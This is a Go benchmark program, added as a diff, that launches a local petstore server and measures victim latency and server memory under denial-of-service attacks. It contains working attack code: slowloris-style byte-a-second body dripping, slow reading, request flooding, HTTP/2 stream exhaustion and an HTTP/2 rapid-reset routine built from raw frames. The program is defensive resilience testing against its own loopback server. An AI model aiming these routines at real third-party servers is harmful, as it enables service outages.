@@ -1,0 +1,552 @@
+// Command attacks measures what hostile clients do to cmd/petstore on its
+// defaults: it starts the server built at -bin with a self-signed
+// certificate on a free loopback port, and a victim, a client with a key of
+// its own that sends a list and a create every 20 ms over HTTP/1.1. For
+// each attack it prints the victim's p99 with no attack and under the
+// attack, its errors, and the server's peak resident memory during the
+// attack. Each attack lasts -for; the run is bounded by their sum.
+//
+// The attacks: 100 connections without a key that ask for the docs bundle
+// and never read it; one key dripping bodies a byte a second on 400
+// connections; one key sending as fast as it can on 300 connections; 32
+// HTTP/2 connections of 32 streams each dripping bodies; and HTTP/2 rapid
+// reset without a key (HEADERS then RST_STREAM, redialling when closed).
+//
+// With -idle N or -h2 N it measures instead what the server holds for a
+// connection: the growth of its resident memory with N idle HTTP/1.1
+// connections (each after one answered request), or with N HTTP/2
+// connections whose 100 streams are all open (creates whose bodies
+// stopped), divided by N. Run one at a time: memory that one kind freed is
+// reused by the other, not returned to the system.
+//
+// Usage:
+//
+//	go build -o /tmp/petstore ./cmd/petstore
+//	go run ./bench/attacks -bin /tmp/petstore
+//	go run ./bench/attacks -bin /tmp/petstore -idle 2000
+//	go run ./bench/attacks -bin /tmp/petstore -h2 20
+//
+// The attackers and the victim share this process and the machine's
+// cores with the server: on a shared machine, read the figures as an
+// upper bound of the harm.
+package main
+
+import (
+	"bufio"
+	"context"
+	"crypto/ecdsa"
+	"crypto/elliptic"
+	"crypto/rand"
+	"crypto/tls"
+	"crypto/x509"
+	"crypto/x509/pkix"
+	"encoding/binary"
+	"encoding/pem"
+	"flag"
+	"fmt"
+	"io"
+	"log"
+	"math/big"
+	"net"
+	"net/http"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"slices"
+	"strconv"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"syscall"
+	"time"
+)
+
+const (
+	attackerKey = "attacker-key-0123456789"
+	victimKey   = "victim-key-0123456789"
+	dripBody    = `{"name":"drip","categoryId":1}`
+)
+
+func main() {
+	bin := flag.String("bin", "", "the cmd/petstore executable")
+	dur := flag.Duration("for", 10*time.Second, "how long each attack, and each quiet phase, lasts")
+	idle := flag.Int("idle", 0, "measure the memory of this many idle HTTP/1.1 connections instead")
+	h2 := flag.Int("h2", 0, "measure the memory of this many HTTP/2 connections at their stream limit instead")
+	flag.Parse()
+	if *bin == "" {
+		log.Fatal("-bin is required")
+	}
+	dir, err := os.MkdirTemp("", "attacks-")
+	if err != nil {
+		log.Fatal(err)
+	}
+	defer os.RemoveAll(dir)
+	cert, key := selfSigned(dir)
+	args := []string{"-addr", "127.0.0.1:0", "-store", "memory", "-tls-cert", cert, "-tls-key", key}
+	if *idle > 0 || *h2 > 0 {
+		args = append(args, "-read-limit", "off", "-create-limit", "off", "-max-in-flight", "0")
+	}
+	cmd := exec.Command(*bin, args...)
+	cmd.Env = append(os.Environ(), "PETSTORE_API_KEYS=mallory:"+attackerKey+",victor:"+victimKey)
+	out, _ := cmd.StdoutPipe()
+	cmd.Stderr = io.Discard
+	if err := cmd.Start(); err != nil {
+		log.Fatal(err)
+	}
+	defer cmd.Process.Kill()
+	var base string
+	for sc := bufio.NewScanner(out); sc.Scan(); {
+		if u, ok := strings.CutPrefix(sc.Text(), "serving "); ok {
+			base = strings.TrimSuffix(u, "/pets")
+			break
+		}
+	}
+	go io.Copy(io.Discard, out)
+	addr := strings.Split(strings.TrimPrefix(base, "https://"), "/")[0]
+	path := strings.TrimPrefix(base, "https://"+addr)
+	s := &server{pid: cmd.Process.Pid, addr: addr, base: base, path: path}
+	if *idle > 0 || *h2 > 0 {
+		connMemory(s, *idle, *h2)
+		return
+	}
+
+	attacks := []struct {
+		name string
+		run  func(context.Context, *server)
+	}{
+		{"docs bundle never read, no key, 100 connections", func(ctx context.Context, s *server) {
+			head := "GET " + s.path + "/docs/swagger-ui-bundle.js HTTP/1.1\r\nHost: x\r\nAccept-Encoding: identity\r\n\r\n"
+			connAttack(ctx, s, 100, head, "", false)
+		}},
+		{"bodies dripping a byte a second, one key, 400 connections", func(ctx context.Context, s *server) {
+			head := fmt.Sprintf("POST %s/pets HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n",
+				s.path, attackerKey, len(dripBody))
+			connAttack(ctx, s, 400, head, dripBody, true)
+		}},
+		{"one key as fast as it can, 300 connections", func(ctx context.Context, s *server) { floodAttack(ctx, s, 300) }},
+		{"HTTP/2, 32 connections x 32 streams dripping bodies, one key", func(ctx context.Context, s *server) { h2Attack(ctx, s, 32, 32) }},
+		{"HTTP/2 rapid reset, no key, 8 connections", func(ctx context.Context, s *server) { rapidReset(ctx, s, 8) }},
+	}
+	for _, a := range attacks {
+		quiet := measure(s, *dur, nil)
+		loud := measure(s, *dur, a.run)
+		fmt.Printf("%s:\n  victim p99 %v quiet (%d requests, %d errors), %v under attack (%d requests, %d errors: %v); server peak RSS %d MB (%d MB quiet)\n",
+			a.name, quiet.p99.Round(100*time.Microsecond), quiet.n, len(quiet.errs), loud.p99.Round(100*time.Microsecond), loud.n, len(loud.errs),
+			first(loud.errs), loud.peakKB/1024, quiet.peakKB/1024)
+		time.Sleep(2 * time.Second) // for the attack's connections to go
+	}
+}
+
+// connMemory prints the growth of the server's memory with idle HTTP/1.1
+// connections, or with HTTP/2 connections at their stream limit.
+func connMemory(s *server, idle, h2 int) {
+	settle := func() int {
+		time.Sleep(2 * time.Second)
+		return rss(s.pid)
+	}
+	before := settle()
+	ctx := context.Background()
+	for range idle {
+		c, err := dialTLS(ctx, s, "http/1.1", false)
+		if err != nil {
+			log.Fatal(err)
+		}
+		fmt.Fprintf(c, "GET %s/pets?limit=1 HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\n\r\n", s.path, victimKey)
+		resp, err := http.ReadResponse(bufio.NewReader(c), nil)
+		if err != nil {
+			log.Fatal(err)
+		}
+		io.Copy(io.Discard, resp.Body)
+		defer c.Close()
+	}
+	for range h2 {
+		tr := &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}, ForceAttemptHTTP2: true, MaxConnsPerHost: 1,
+			HTTP2: &http.HTTP2Config{StrictMaxConcurrentRequests: true}}
+		for range 100 {
+			req, _ := http.NewRequest("POST", s.base+"/pets", &drippingBody{rest: "{" + strings.Repeat(" ", 1000)})
+			req.Header.Set("Authorization", "Bearer "+victimKey)
+			req.Header.Set("Content-Type", "application/json")
+			go (&http.Client{Transport: tr}).Do(req)
+		}
+	}
+	after := settle()
+	n, kind := idle, "idle HTTP/1.1 connections over TLS"
+	if h2 > 0 {
+		n, kind = h2, "HTTP/2 connections with 100 streams open"
+	}
+	fmt.Printf("%d %s: RSS %d -> %d KiB, %.1f KiB a connection\n", n, kind, before, after, float64(after-before)/float64(n))
+}
+
+// server is the server under attack.
+type server struct {
+	pid              int
+	addr, base, path string
+}
+
+// phase is what measure saw.
+type phase struct {
+	p99    time.Duration
+	n      int
+	errs   []string
+	peakKB int
+}
+
+// measure runs the victim for d, with attack (nil for none) going on, and
+// samples the server's resident memory.
+func measure(s *server, d time.Duration, attack func(context.Context, *server)) phase {
+	ctx, cancel := context.WithTimeout(context.Background(), d)
+	defer cancel()
+	var wg sync.WaitGroup
+	if attack != nil {
+		wg.Go(func() { attack(ctx, s) })
+	}
+	var peak atomic.Int64
+	wg.Go(func() {
+		for ctx.Err() == nil {
+			peak.Store(max(peak.Load(), int64(rss(s.pid))))
+			time.Sleep(100 * time.Millisecond)
+		}
+	})
+	var p phase
+	tr := &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}, TLSNextProto: map[string]func(string, *tls.Conn) http.RoundTripper{}}
+	client := &http.Client{Transport: tr, Timeout: 30 * time.Second}
+	var took []time.Duration
+	tick := time.NewTicker(20 * time.Millisecond)
+	for i := 0; ctx.Err() == nil; i++ {
+		<-tick.C
+		var req *http.Request
+		if i%2 == 0 {
+			req, _ = http.NewRequest("GET", s.base+"/pets?limit=10", nil)
+		} else {
+			req, _ = http.NewRequest("POST", s.base+"/pets", strings.NewReader(`{"name":"victim","categoryId":1}`))
+			req.Header.Set("Content-Type", "application/json")
+		}
+		req.Header.Set("Authorization", "Bearer "+victimKey)
+		start := time.Now()
+		resp, err := client.Do(req)
+		if err == nil {
+			io.Copy(io.Discard, resp.Body)
+			resp.Body.Close()
+			if resp.StatusCode >= 300 {
+				err = fmt.Errorf("%s %s: %s", req.Method, req.URL.Path, resp.Status)
+			}
+		}
+		took = append(took, time.Since(start))
+		if err != nil {
+			p.errs = append(p.errs, err.Error())
+		}
+	}
+	tick.Stop()
+	tr.CloseIdleConnections()
+	cancel()
+	wg.Wait()
+	slices.Sort(took)
+	p.n = len(took)
+	if p.n > 0 {
+		p.p99 = took[p.n*99/100]
+	}
+	p.peakKB = int(peak.Load())
+	return p
+}
+
+func first(errs []string) string {
+	if len(errs) == 0 {
+		return "none"
+	}
+	return errs[0]
+}
+
+// dialTLS dials the server over TLS offering only proto, with a small
+// receive buffer when small is set, as a client that does not read would
+// arrange.
+func dialTLS(ctx context.Context, s *server, proto string, small bool) (net.Conn, error) {
+	d := &net.Dialer{}
+	if small {
+		d.Control = func(_, _ string, c syscall.RawConn) error {
+			return c.Control(func(fd uintptr) { syscall.SetsockoptInt(int(fd), syscall.SOL_SOCKET, syscall.SO_RCVBUF, 4096) })
+		}
+	}
+	c, err := d.DialContext(ctx, "tcp", s.addr)
+	if err != nil {
+		return nil, err
+	}
+	tc := tls.Client(c, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{proto}})
+	if err := tc.HandshakeContext(ctx); err != nil {
+		c.Close()
+		return nil, err
+	}
+	return tc, nil
+}
+
+// connAttack keeps n connections sending head, then body a byte a second,
+// until ctx is done; read says whether they read the answers. A connection
+// that the server closes is opened again, no sooner than a second after
+// the last.
+func connAttack(ctx context.Context, s *server, n int, head, body string, read bool) {
+	var wg sync.WaitGroup
+	for i := range n {
+		wg.Go(func() {
+			staggered(ctx, i, n)
+			for ctx.Err() == nil {
+				opened := time.Now()
+				conn, err := dialTLS(ctx, s, "http/1.1", !read)
+				if err != nil {
+					return
+				}
+				done := make(chan struct{})
+				if _, err := io.WriteString(conn, head); err == nil && body != "" {
+					go dripTo(ctx, done, conn, body)
+				}
+				stop := context.AfterFunc(ctx, func() { conn.Close() })
+				if read {
+					io.Copy(io.Discard, conn)
+				} else {
+					<-ctx.Done()
+				}
+				stop()
+				close(done)
+				conn.Close()
+				select {
+				case <-ctx.Done():
+				case <-time.After(time.Until(opened.Add(time.Second))):
+				}
+			}
+		})
+	}
+	wg.Wait()
+}
+
+// staggered waits the i-th of n slots' share of a second, so that an
+// attack starts spread over a second rather than in one burst.
+func staggered(ctx context.Context, i, n int) {
+	select {
+	case <-ctx.Done():
+	case <-time.After(time.Duration(i) * time.Second / time.Duration(n)):
+	}
+}
+
+// dripTo writes body to conn a byte a second until it has all gone, or ctx
+// or done is done.
+func dripTo(ctx context.Context, done <-chan struct{}, conn net.Conn, body string) {
+	tick := time.NewTicker(time.Second)
+	defer tick.Stop()
+	for i := range len(body) {
+		select {
+		case <-ctx.Done():
+			return
+		case <-done:
+			return
+		case <-tick.C:
+		}
+		if _, err := conn.Write([]byte{body[i]}); err != nil {
+			return
+		}
+	}
+}
+
+// floodAttack sends requests with the attacker's key on n connections
+// until ctx is done, one in flight on each, the next as soon as the last is
+// answered: lists and creates in turn.
+func floodAttack(ctx context.Context, s *server, n int) {
+	const body = `{"name":"flood","categoryId":1}`
+	var wg sync.WaitGroup
+	for range n {
+		wg.Go(func() {
+			var (
+				conn net.Conn
+				br   *bufio.Reader
+			)
+			for i := 0; ctx.Err() == nil; i++ {
+				if conn == nil {
+					var err error
+					if conn, err = dialTLS(ctx, s, "http/1.1", false); err != nil {
+						return
+					}
+					br = bufio.NewReader(conn)
+				}
+				var req string
+				if i%2 == 0 {
+					req = fmt.Sprintf("GET %s/pets?limit=100 HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\n\r\n", s.path, attackerKey)
+				} else {
+					req = fmt.Sprintf("POST %s/pets HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\nContent-Type: application/json\r\n"+
+						"Content-Length: %d\r\n\r\n%s", s.path, attackerKey, len(body), body)
+				}
+				conn.SetDeadline(time.Now().Add(10 * time.Second))
+				_, err := io.WriteString(conn, req)
+				var resp *http.Response
+				if err == nil {
+					resp, err = http.ReadResponse(br, nil)
+				}
+				if err == nil {
+					_, err = io.Copy(io.Discard, resp.Body)
+					resp.Body.Close()
+				}
+				if err != nil || resp.Close {
+					conn.Close()
+					conn = nil
+				}
+			}
+			if conn != nil {
+				conn.Close()
+			}
+		})
+	}
+	wg.Wait()
+}
+
+// h2Attack opens conns HTTP/2 connections and keeps streams POST streams
+// going on each until ctx is done, each declaring dripBody and sending it
+// a byte a second.
+func h2Attack(ctx context.Context, s *server, conns, streams int) {
+	var wg sync.WaitGroup
+	for range conns {
+		tr := &http.Transport{
+			TLSClientConfig:   &tls.Config{InsecureSkipVerify: true},
+			ForceAttemptHTTP2: true,
+			MaxConnsPerHost:   1,
+			HTTP2:             &http.HTTP2Config{StrictMaxConcurrentRequests: true},
+		}
+		client := &http.Client{Transport: tr}
+		defer tr.CloseIdleConnections()
+		for range streams {
+			wg.Go(func() {
+				for ctx.Err() == nil {
+					opened := time.Now()
+					req, _ := http.NewRequestWithContext(ctx, http.MethodPost, s.base+"/pets", &drippingBody{rest: dripBody})
+					req.ContentLength = int64(len(dripBody))
+					req.Header.Set("Content-Type", "application/json")
+					req.Header.Set("Authorization", "Bearer "+attackerKey)
+					if resp, err := client.Do(req); err == nil {
+						io.Copy(io.Discard, resp.Body)
+						resp.Body.Close()
+					}
+					select {
+					case <-ctx.Done():
+					case <-time.After(time.Until(opened.Add(time.Second))):
+					}
+				}
+			})
+		}
+	}
+	wg.Wait()
+}
+
+// drippingBody is a request body that gives rest a byte a second.
+type drippingBody struct{ rest string }
+
+func (b *drippingBody) Read(p []byte) (int, error) {
+	if b.rest == "" {
+		return 0, io.EOF
+	}
+	time.Sleep(time.Second)
+	p[0], b.rest = b.rest[0], b.rest[1:]
+	return 1, nil
+}
+
+// rapidReset keeps n HTTP/2 connections sending, without a key, a HEADERS
+// frame for a GET of the pets and at once a RST_STREAM for it, as fast as
+// they can, redialling when the server closes one.
+func rapidReset(ctx context.Context, s *server, n int) {
+	var wg sync.WaitGroup
+	for range n {
+		wg.Go(func() {
+			for ctx.Err() == nil {
+				conn, err := dialTLS(ctx, s, "h2", false)
+				if err != nil {
+					return
+				}
+				stop := context.AfterFunc(ctx, func() { conn.Close() })
+				resetOn(conn, s)
+				stop()
+				conn.Close()
+			}
+		})
+	}
+	wg.Wait()
+}
+
+// resetOn sends HEADERS and RST_STREAM on conn until a write fails; it
+// acknowledges the server's SETTINGS and reads the rest away.
+func resetOn(conn net.Conn, s *server) {
+	var mu sync.Mutex
+	write := func(b []byte) error {
+		mu.Lock()
+		defer mu.Unlock()
+		_, err := conn.Write(b)
+		return err
+	}
+	frame := func(typ, flags byte, stream uint32, payload []byte) []byte {
+		b := make([]byte, 9, 9+len(payload))
+		b[0], b[1], b[2] = byte(len(payload)>>16), byte(len(payload)>>8), byte(len(payload))
+		b[3], b[4] = typ, flags
+		binary.BigEndian.PutUint32(b[5:], stream)
+		return append(b, payload...)
+	}
+	if write(append([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(4, 0, 0, nil)...)) != nil {
+		return
+	}
+	go func() { // acknowledge SETTINGS, read the rest away
+		hdr := make([]byte, 9)
+		for {
+			if _, err := io.ReadFull(conn, hdr); err != nil {
+				return
+			}
+			length := int(hdr[0])<<16 | int(hdr[1])<<8 | int(hdr[2])
+			if _, err := io.CopyN(io.Discard, conn, int64(length)); err != nil {
+				return
+			}
+			if hdr[3] == 4 && hdr[4]&1 == 0 {
+				write(frame(4, 1, 0, nil))
+			}
+		}
+	}()
+	// GET, https, :path and :authority as literals without indexing.
+	block := []byte{0x82, 0x87, 0x04, byte(len(s.path) + 5)}
+	block = append(block, s.path+"/pets"...)
+	block = append(block, 0x01, byte(len(s.addr)))
+	block = append(block, s.addr...)
+	for id := uint32(1); id < 1<<31; id += 2 {
+		b := frame(1, 0x5, id, block)
+		b = append(b, frame(3, 0, id, []byte{0, 0, 0, 8})...)
+		if write(b) != nil {
+			return
+		}
+	}
+}
+
+// rss returns the resident memory of the process pid, in KiB.
+func rss(pid int) int {
+	b, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/status")
+	if err != nil {
+		return 0
+	}
+	for line := range strings.Lines(string(b)) {
+		if v, ok := strings.CutPrefix(line, "VmRSS:"); ok {
+			n, _ := strconv.Atoi(strings.Fields(v)[0])
+			return n
+		}
+	}
+	return 0
+}
+
+// selfSigned writes a certificate for 127.0.0.1 and its key into dir.
+func selfSigned(dir string) (cert, key string) {
+	k, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	if err != nil {
+		log.Fatal(err)
+	}
+	tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "127.0.0.1"},
+		IPAddresses: []net.IP{net.IPv4(127, 0, 0, 1)}, NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour)}
+	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &k.PublicKey, k)
+	if err != nil {
+		log.Fatal(err)
+	}
+	kd, err := x509.MarshalECPrivateKey(k)
+	if err != nil {
+		log.Fatal(err)
+	}
+	cert, key = filepath.Join(dir, "cert.pem"), filepath.Join(dir, "key.pem")
+	os.WriteFile(cert, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}), 0o600)
+	os.WriteFile(key, pem.EncodeToMemory(&pem.Block{Type: "EC PRIVATE KEY", Bytes: kd}), 0o600)
+	return cert, key
+}
